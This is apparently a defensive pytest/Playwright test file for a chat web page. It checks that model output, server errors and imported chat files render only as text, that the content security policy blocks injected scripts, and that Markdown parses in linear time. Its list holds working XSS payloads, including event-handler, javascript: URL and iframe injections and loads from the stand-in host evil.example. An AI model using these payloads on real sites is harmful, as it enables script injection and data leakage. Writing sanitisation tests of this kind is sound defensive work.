"""Whatever the model, the server or a file says is text: nothing of it runs or is fetched."""

import json
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.browsing import Chat
from tests.runtime.server.page.conftest import Open
from tests.speaking import Speaker

ATTACKS = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<img src=https://evil.example/?secret>",
    "<svg onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    "<body onload=window.hacked=1><input autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<a href='javascript:window.hacked=1' id=a>press</a>",
    "[press](javascript:window.hacked=1)",
    "![x](https://evil.example/x.png) <https://evil.example>",
    "[x]: https://evil.example\n\n![][x]",
    "```html\n<script>window.hacked = 1</script>\n```",
    "```<img src=x onerror=window.hacked=1>\ncode\n```",
    "`<img src=x onerror=window.hacked=1>`",
    "# <img src=x onerror=window.hacked=1>\n- <script>window.hacked=1</script>\n> <b onclick=x>",
    "**<img src=x onerror=window.hacked=1>** *<script>window.hacked=1</script>*",
    "<style>@import 'https://evil.example'; * {color: red}</style><link rel=stylesheet href=//e>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "<form action=https://evil.example id=composer><button name=prompt>x</button></form>",
    "</div></article><template><img src=x onerror=window.hacked=1></template>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; \x00\u202e<scr\x00ipt>window.hacked=1</script>",
]


def is_unharmed(chat: Chat) -> bool:
    """Nothing ran, nothing was refused by the policy, and every element is one of the page's."""
    found: list[str] = chat.page.evaluate(
        "[...document.querySelectorAll('#messages *, #chats *, h1 *')].map((e) => e.localName)"
    )
    own = {"article", "div", "footer", "span", "button", "p", "br", "pre", "code", "h2", "ul", "ol"}
    own |= {"li", "blockquote", "strong", "em", "hr"}
    hacked: bool = chat.page.evaluate("'hacked' in window")
    return not hacked and not chat.violations() and not chat.elsewhere and set(found) <= own


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_the_model_says_does_nothing(attack: str, speaker: Speaker, open_page: Open) -> None:
    chat = open_page(speaker.port)
    speaker.says(*attack)  # a character at a time: whatever it begins with is shown once
    chat.ask(attack)
    assert is_unharmed(chat)
    expect(chat.said).to_have_text([attack])
    chat.page.reload()
    expect(chat.answers).to_have_count(1)
    assert is_unharmed(chat)
    assert chat.dialogs == []


def test_what_a_server_or_a_file_says_does_nothing(
    speaker: Speaker, open_page: Open, tmp_path: Path
) -> None:
    attack = "<img src=x onerror=window.hacked=1>"
    speaker.name = attack
    speaker.error = (500, {"error": {"message": attack}}, {})
    chat = open_page(speaker.port)
    chat.send("x")
    expect(chat.alert).to_contain_text(attack)
    message = {"role": "user", "content": attack, "note": attack, "stats": {"rate": attack}}
    file = tmp_path / "chats.json"
    file.write_text(json.dumps({"chats": [{"id": attack, "messages": [message]}]}))
    chat.page.set_input_files("#file", file)
    chat.button(attack).click()
    expect(chat.said).to_have_text([attack])
    assert is_unharmed(chat)


def test_the_policy_of_the_page_is_in_force(speaker: Speaker, open_page: Open) -> None:
    chat = open_page(speaker.port)
    chat.page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.hacked = 1";
          document.body.append(script);
          document.body.insertAdjacentHTML("beforeend", "<p style='color: red'></p>");
          return fetch("https://evil.example").catch(() => null);
        }"""
    )
    assert sorted(chat.violations()) == ["connect-src", "script-src-elem", "style-src-attr"]
    assert chat.page.evaluate("'hacked' in window") is False
    chat.errors.clear()


def test_no_text_takes_more_than_linear_time(speaker: Speaker, open_page: Open) -> None:
    """Each of these takes minutes where a reader of Markdown goes back and forth."""
    chat = open_page(speaker.port)
    length = 100_000
    for begin in ("**a ", "*", "`", "- ", "# ", "> ", " ", "`a``", "1. ", "**a*b ", "- - x", "#"):
        speaker.says(begin * (length // len(begin)) + "\nend")
        chat.button("New chat").click()
        assert chat.ask("x").endswith("end")
